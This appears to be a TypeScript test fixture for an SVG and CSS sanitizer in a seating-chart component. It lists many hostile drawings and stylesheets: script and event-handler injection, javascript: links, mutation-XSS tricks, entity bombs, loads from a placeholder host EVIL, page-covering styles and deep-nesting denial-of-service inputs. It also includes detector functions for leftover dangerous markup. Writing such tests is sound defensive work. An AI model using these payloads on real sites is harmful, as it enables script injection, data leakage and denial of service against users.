// Drawings that try to run something (`stolen()`), to fetch something (from `EVIL`), or to leave their place. Each is
// one way that was seen in the wild or that the specifications of svg, html and css leave open. EVIL is replaced by the
// address of the mock server.

const svg = (inside: string, more = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 60" ${more}>${inside}<rect class="seat" width="9" height="9"/></svg>`

const html = '<img src="EVIL/img" onerror="stolen()">'

const usedOften = (target: string) => svg(target + '<use href="#g"/>'.repeat(2000))

export const hostileSvg: Record<string, string> = {
  script: svg('<script>stolen()</script>'),
  'script by href': svg('<script href="EVIL/script.js"/><script xlink:href="data:text/javascript,stolen()"/>'),
  'script in CDATA': svg('<script><![CDATA[stolen()]]></script>'),
  'script of html': svg('</svg><script>stolen()</script><svg>'),
  'handlers everywhere': svg(
    '<g onclick="stolen()" onfocus="stolen()" onfocusin="stolen()" tabindex="0" autofocus><rect onmouseover="stolen()" onload="stolen()" onbegin="stolen()"/></g>',
    'onload="stolen()" onerror="stolen()" onresize="stolen()" onunload="stolen()"'
  ),
  'handler in odd spelling': svg(
    '<rect OnLoAd="stolen()" on\u0000load="stolen()" /onload="stolen()"/>',
    'ONLOAD=stolen()'
  ),
  foreignObject: svg(
    `<foreignObject width="100" height="60"><body xmlns="http://www.w3.org/1999/xhtml">${html}<iframe srcdoc="<script>parent.stolen()</script>"></iframe></body></foreignObject>`
  ),
  'html in title and desc': svg(`<title>${html}</title><desc>${html}<script>stolen()</script></desc>`),
  'html in the open': `${html}<form action="EVIL/form"><button formaction="javascript:stolen()">x</button></form>${svg('')}<link rel="stylesheet" href="EVIL/link.css"><meta http-equiv="refresh" content="0;url=EVIL/refresh">`,
  'link that runs': svg(
    '<a href="javascript:stolen()" xlink:href="javascript:stolen()"><rect width="9" height="9"/></a>'
  ),
  'link away': svg('<a href="EVIL/link" target="_top" ping="EVIL/ping"><rect width="9" height="9"/></a>'),
  'use of data': svg(
    `<use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>stolen()</script></svg>#x"/>`
  ),
  'use of javascript': svg('<use xlink:href="javascript:stolen()"/><use href="EVIL/use.svg#x"/>'),
  'use of itself': svg('<g id="a"><use href="#a"/></g>'),
  'animated href': svg(
    '<a id="a"><animate attributeName="href" values="javascript:stolen()"/><set attributeName="xlink:href" to="javascript:stolen()"/><text y="9">x</text></a>'
  ),
  'animated handler': svg(
    '<set attributeName="onmouseover" to="stolen()"/><animate attributeName="onload" to="stolen()" onbegin="stolen()" onend="stolen()" begin="0s" dur="1ms"/>'
  ),
  'animated motion': svg(
    '<animateMotion onbegin="stolen()" dur="1s" path="M0 0L9 9"><mpath href="EVIL/mpath.svg#x"/></animateMotion><animateTransform onbegin="stolen()" attributeName="transform" dur="1s"/>'
  ),
  discard: svg('<discard onbegin="stolen()" begin="0s"/>'),
  'image from elsewhere': svg('<image href="EVIL/image.png" xlink:href="EVIL/image2.png" width="9" height="9"/>'),
  'image without a scheme': svg(
    '<image href="//EVILHOST/image3.png" width="9" height="9"/><image href="/image4.png" width="9" height="9"/>'
  ),
  'image of svg data': svg(
    `<image href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='stolen()'/>" width="9" height="9"/>`
  ),
  feImage: svg(
    '<filter id="f"><feImage href="EVIL/fe.png" xlink:href="EVIL/fe2.png"/></filter><rect filter="url(#f)" width="9" height="9"/>'
  ),
  'filter from elsewhere': svg(
    '<rect width="9" height="9" filter="url(EVIL/filter.svg#f)" mask="url(EVIL/mask.svg#m)" clip-path="url(EVIL/clip.svg#c)"/>'
  ),
  'paint from elsewhere': svg(
    '<rect width="9" height="9" fill="url(EVIL/fill.svg#p) red" stroke="url(&quot;EVIL/stroke.svg#p&quot;)" marker-end="url(EVIL/marker.svg#m)"/>'
  ),
  'paint in escapes': svg(
    '<rect width="9" height="9" mask="u\\72l(EVIL/mask2.svg#m)" filter="\\75 rl(EVIL/filter2.svg#f)" clip-path="url/**/(EVIL/clip2.svg#c)" fill="URL(EVIL/fill2.svg#p)"/>'
  ),
  'paint by other functions': svg(
    '<rect width="9" height="9" cursor="image-set(\'EVIL/cursor.png\' 1x), auto" mask="image(\'EVIL/mask3.svg\')" filter="src(\'EVIL/filter3.svg\')"/>'
  ),
  'gradient from elsewhere': svg(
    '<linearGradient id="g" href="EVIL/gradient.svg#g" xlink:href="EVIL/gradient2.svg#g"/><rect fill="url(#g)" width="9" height="9"/>'
  ),
  'text on a path from elsewhere': svg(
    '<text><textPath href="EVIL/path.svg#p">x</textPath><tref href="EVIL/tref.svg#t"/></text>'
  ),
  'style element that loads': svg(
    '<style>@import "EVIL/import.css"; @font-face { font-family: f; src: url(EVIL/font.woff2) } rect { mask: url(EVIL/mask4.svg); font-family: f }</style><text y="9" font-family="f">x</text>'
  ),
  'style element that breaks out': svg(`<style></style>${html}<style><![CDATA[</style>${html}]]></style>`),
  'places and sizes that load or run': svg(
    '<path d="url(EVIL/d.svg)" transform="url(EVIL/t.svg)"/><rect width="javascript:stolen()" x="url(EVIL/x.svg)" rx="ex/**/pression(stolen())"/>'
  ),
  'style attribute that loads': svg(
    '<rect width="9" height="9" style="mask: url(EVIL/mask5.svg); filter: u\\72l(EVIL/filter5.svg); background: image-set(\'EVIL/bg.png\' 1x); --x: url(EVIL/x.png); cursor: url(EVIL/c.cur), auto"/>'
  ),
  'style attribute that covers the page': svg(
    '<rect width="9" height="9"/>',
    'style="position:fixed;inset:0;width:100vw;height:100vh;z-index:2147483647"'
  ),
  'stylesheet by processing instruction': `<?xml version="1.0"?><?xml-stylesheet type="text/css" href="EVIL/pi.css"?>${svg('')}`,
  'entities that run': `<!DOCTYPE svg [<!ENTITY x "<script>stolen()</script>"><!ENTITY y SYSTEM "EVIL/entity">]>${svg('&x;&y;')}`,
  'entities without end': `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]>${svg('<text>&c;</text>')}`,
  'mutation by namespaces': svg(`<style><g title="</style>${html}">`),
  'mutation by math': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${html.replaceAll('"', '&quot;')}"></mglyph></table></mtext></math>${svg('')}`,
  'mutation by title': svg(`<p><title><style></title>${html}</style></title></p>`),
  'mutation by noscript': svg(`<desc><noscript><p title="</noscript>${html}"></noscript></desc>`),
  'mutation by comments': svg(`<!--><g>${html}--><g/><!-- --!>${html}-->`),
  'template with a shadow': svg(`<desc><template shadowrootmode="open">${html}</template></desc>`),
  'frames and objects': svg(
    '<iframe src="javascript:parent.stolen()"></iframe><object data="EVIL/object"></object><embed src="EVIL/embed"><video src="EVIL/video" onerror="stolen()"></video><audio src="EVIL/audio"></audio>'
  ),
  'base, so that all leads elsewhere': svg('<base href="EVIL/"/><image href="relative.png"/>', 'xml:base="EVIL/"'),
  'names that clobber': svg(
    '<g id="attributes" name="attributes"/><g id="nodeName" name="nodeName"/><g id="getElementById"/><g id="cookie" name="cookie"/>'
  ),
  'huge nesting': svg('<g>'.repeat(20_000)),
  'patterns in patterns': svg(
    Array.from(
      { length: 12 },
      (_, no) =>
        `<pattern id="p${no}" width="1" height="1">${`<rect width="9" height="9" fill="url(#p${no + 1})"/>`.repeat(10)}</pattern>`
    ).join('') + '<rect width="100" height="60" fill="url(#p0)"/>'
  ),
  'seats of hostile names': svg(
    ['&quot;&gt;&lt;img src=EVIL/seat onerror=stolen()&gt;', '__proto__', 'x'.repeat(65), '&#7;&#8238;']
      .map(
        (text) =>
          `<rect data-seat="${text}" data-seat-label="${text}" width="9" height="9"><title>${text}</title></rect>`
      )
      .join('')
  ),
  'more marks of a seat than count': svg('<g data-seat="A" constructor="A"/>'.repeat(25_000)),
  'uses of each other': svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g><use href="#a"/>'),
  'use of itself by another spelling': svg(
    '<g id="a"><use href="#%61"/><use xlink:href=" #a"/><use href="#a&#10;"/></g>'
  ),
  'use with two references': svg(
    '<symbol id="s"><path d="M0 0h9"/></symbol><use href="#s" xlink:href="EVIL/use.svg#x"/>'
  ),
  'use of the whole drawing': svg('<g id="top"/><use href="#top"/>', 'id="top"'),
  'use of what is no part': svg('<pattern id="p"><rect width="9"/></pattern><use id="u" href="#p"/><use href="#u"/>'),
  'use of the first of two': svg('<mask id="a"><use href="#a"/></mask><g id="a"><rect width="9"/></g><use href="#a"/>'),
  'use where it is repeated': svg(
    ['pattern', 'mask', 'marker', 'clipPath'].map((tag) => `<${tag} id="${tag}"><use href="#r"/></${tag}>`).join('') +
      '<rect id="r" width="9" height="9"/><rect width="9" height="9" fill="url(#pattern)" mask="url(#mask)" clip-path="url(#clipPath)"/>'
  ),
  'uses of uses': svg(
    Array.from({ length: 12 }, (_, no) => `<g id="u${no}">${`<use href="#u${no + 1}"/>`.repeat(10)}</g>`).join('') +
      '<g id="u12"><rect width="9" height="9"/></g><use href="#u0"/>'
  ),
  'patterns in uses': svg(
    `<pattern id="p" width="1" height="1">${'<rect width="9" height="9"/>'.repeat(1000)}</pattern><g id="g">${'<rect width="9" height="9" fill="url(#p)"/>'.repeat(100)}</g>${'<use href="#g"/>'.repeat(190)}`
  ),
  'patterns by style and by a group': svg(
    `<pattern id="p" width=".5" height=".5">${'<rect width="9" height="9"/>'.repeat(1200)}</pattern>${'<rect width="9" height="9" style="fill:url(#p)"/>'.repeat(900)}<g stroke="url(#p)">${'<rect width="9" height="9"/>'.repeat(900)}</g>`
  ),
  'clip paths of many shapes': svg(
    `<style>.c{clip-path:url(#c)}</style><clipPath id="c">${'<rect width="90" height="50"/>'.repeat(1200)}</clipPath>${'<rect width="90" height="50" clip-path="url(#c)"/><rect class="c" width="90" height="50"/>'.repeat(450)}`
  ),
  'masks in groups of groups': svg(
    `<mask id="m">${'<rect width="90" height="50" fill="#fff"/>'.repeat(300)}</mask>${'<g mask="url(#m)"><g style="mask:url(#m)"><rect width="90" height="50" mask="inherit"/></g></g>'.repeat(600)}`
  ),
  'masks in masks': svg(
    Array.from(
      { length: 6 },
      (_, no) =>
        `<mask id="m${no}">${`<rect width="90" height="50" fill="#fff" mask="url(#m${no + 1})"/>`.repeat(8)}</mask>`
    ).join('') + '<rect width="90" height="50" mask="url(#m0)"/>'
  ),
  'markers of many vertices': svg(
    `<marker id="m" overflow="visible">${'<rect width="9" height="9" fill="context-fill"/>'.repeat(500)}</marker><path marker-mid="url(#m)" d="M0 0${'h1v1'.repeat(5000)}"/><g style="marker:url(#m)">${'<polyline points="0 0 1 1 2 2 3 3"/>'.repeat(900)}</g>`
  ),
  'long text': svg(`<text>${'x'.repeat(20_000)}</text>`),
  'groups in uses': usedOften(`<g id="g">${'<g/>'.repeat(20_000)}</g>`),
  'tspans in uses': usedOften(`<g id="g"><text>${'<tspan/>'.repeat(20_000)}</text></g>`),
  'long path in uses': usedOften(`<path id="g" d="M0 0${'h1v1'.repeat(100_000)}"/>`),
  'long text in uses': usedOften(`<g id="g"><text>${'x'.repeat(400_000)}</text></g>`),
  'animated use': svg('<use href="#r"><set attributeName="href" to="EVIL/use.svg#x"/></use><rect id="r" width="9"/>'),
  'a mask of itself': svg(
    '<mask id="m"><rect mask="url(#m)" width="9" height="9"/></mask><rect mask="url(#m)" width="9" height="9"/>'
  )
}

/** Each of the drawings again, as drawn by a `<use>`. */
export const hostileUses: Record<string, string> = Object.fromEntries(
  Object.entries(hostileSvg).map(([name, text]) => [
    name,
    svg(
      `<symbol id="again-s">${text}</symbol><g id="again-g">${text}</g><use href="#again-s"/><use href="#again-g" x="9"/>`
    )
  ])
)

export const hostileCss: Record<string, string> = {
  imports:
    '@import "EVIL/a.css"; @import url(EVIL/b.css); @\\69mport "EVIL/c.css"; @charset "x"; @namespace url(EVIL/ns);',
  fonts: '@font-face{font-family:f;src:url(EVIL/f.woff2)} text{font-family:f} .seat{font-family:f}',
  'url in values':
    '.seat{fill:url(EVIL/1);mask:url("EVIL/2");background-color:url(EVIL/3);background-image:url(EVIL/4);cursor:url(EVIL/5),auto;filter:url(EVIL/6#x);list-style:url(EVIL/7);border-image:url(EVIL/8)}',
  'url in escapes':
    '.seat{mask:u\\72l(EVIL/e1);mask:\\55 RL(EVIL/e2);m\\61sk:url(EVIL/e3);fill:ur\\6c("EVIL/e4");cursor:\\000075rl(EVIL/e5),auto}',
  'other functions that load':
    '.seat{mask:image-set("EVIL/i1" 1x);mask:-webkit-image-set(url(EVIL/i2) 1x);mask:cross-fade(url(EVIL/i3),red,50%);mask:src("EVIL/i4");mask:image("EVIL/i5");content:attr(data-x url);fill:paint(x);fill:element(#x)}',
  'own properties':
    '.seat{--u:url(EVIL/v1);mask:var(--u);fill:var(--u,url(EVIL/v2));stroke:var(--kc-text,url(EVIL/v3))} @property --u{syntax:"<url>";inherits:false;initial-value:url(EVIL/v4)}',
  'attribute selectors that tell':
    '[class^="s"]{background:url(EVIL/s1)} rect[class="seat"]{mask:url(EVIL/s2);cursor:url(EVIL/s3),auto} [x="url(EVIL/s4)"]{fill:red}',
  'hidden in comments':
    '.seat{mask:/**/url(EVIL/k1);fill:red/*;*/;mask:u/**/rl(EVIL/k2)} /* </style> */ .seat{mask:url(EVIL/k3)} <!-- .seat{mask:url(EVIL/k4)} -->',
  'breaking out': '</style><img src=EVIL/o1 onerror=stolen()><style> .seat{fill:"</style><script>stolen()</script>"}',
  'broken pieces':
    '.seat{mask:url(EVIL/p1 } .seat{fill:red;mask:url("EVIL/p2\n)} .seat{;{mask:url(EVIL/p3)}} }}} .seat{mask:url(EVIL/p4)} .seat[{mask:url(EVIL/p5)}',
  nesting:
    '.seat{& {mask:url(EVIL/n1)} mask:url(EVIL/n2); @media all{mask:url(EVIL/n3)} &:hover{position:fixed}} @media all{@import "EVIL/n4"; .seat{mask:url(EVIL/n5)} @font-face{font-family:f;src:url(EVIL/n6)}}',
  'other at-rules':
    '@supports (display:block){.seat{mask:url(EVIL/t1)}} @layer x{.seat{mask:url(EVIL/t2)}} @container (width>0){.seat{mask:url(EVIL/t3)}} @scope{.seat{mask:url(EVIL/t4)}} @document url(EVIL/t5){*{fill:red}} @page{margin:9cm} @keyframes k{to{mask:url(EVIL/t6)}} @view-transition{navigation:auto} @starting-style{.seat{mask:url(EVIL/t7)}}',
  'old tricks':
    '.seat{behavior:url(EVIL/q1);-moz-binding:url(EVIL/q2);width:expression(stolen());filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src="EVIL/q3");fill:javascript:stolen()}',
  'reaching out':
    ':host{position:fixed!important;inset:0;background-color:red} :host-context(body){display:none} ::slotted(*){display:none} :root,html,body,.frame,.layers{display:none;position:fixed} *::before{content:url(EVIL/r1)} :has(*){fill:red}',
  'covering the page':
    'svg,.seat{position:fixed!important;inset:0!important;width:100000px!important;height:100000px!important;max-width:none!important;max-height:none!important;z-index:2147483647;transform:scale(1000) translate(-50%,-50%);margin:-9999px}',
  'a deep selector': `${':is('.repeat(5000)}.seat${')'.repeat(5000)}{fill:red}`,
  'a deep value': `.seat{width:${'calc('.repeat(20_000)}1px${')'.repeat(20_000)}}`,
  'a deep block': `${'.seat{'.repeat(20_000)}mask:url(EVIL/d1)`
}

/**
 * Runs in a page, and so uses nothing from outside: lists the parts of its elements' drawings that could still run,
 * load or leave their place.
 */
export function remainsInPage(): string[] {
  const roots = Array.from(
    document.querySelectorAll('event-layers'),
    (element) => element.shadowRoot?.querySelector('.frame > div')?.shadowRoot
  )
  const elements = roots.flatMap((root) => [...(root?.querySelectorAll('*') ?? [])])
  const tags = elements.filter(
    ({ namespaceURI, localName }) =>
      namespaceURI !== 'http://www.w3.org/2000/svg' || /^(script|style|foreignobject|animate.*|set|a)$/i.test(localName)
  )
  const attributes = elements
    .flatMap((element) => Array.from(element.attributes, ({ name, value }) => `${name}=${value}`))
    .filter((text) => /^on|javascript:|^href=(?!#|data:image\/(png|jpeg|gif|webp);)|url\((?!["']?#)/i.test(text))
  const rules = roots
    .flatMap((root) => (root?.adoptedStyleSheets ?? []).flatMap((sheet) => [...sheet.cssRules]))
    .filter(
      (rule) =>
        rule instanceof CSSImportRule ||
        rule instanceof CSSFontFaceRule ||
        (rule instanceof CSSStyleRule && /url\(|fixed|important|--[^k]/i.test(rule.style.cssText))
    )
  return [...tags.map(({ outerHTML }) => outerHTML), ...attributes, ...rules.map(({ cssText }) => cssText)]
}

/** Runs in a page: sends pointer and focus events to the drawings, to trigger handlers. */
export function touchInPage(): void {
  for (const element of document.querySelectorAll('event-layers')) {
    const root = element.shadowRoot?.querySelector('.frame > div')?.shadowRoot
    for (const one of [...(root?.querySelectorAll('*') ?? [])].slice(0, 40))
      for (const type of ['mouseover', 'focus', 'focusin', 'click', 'begin'])
        one.dispatchEvent(new MouseEvent(type, { bubbles: true, cancelable: true, composed: true }))
  }
}
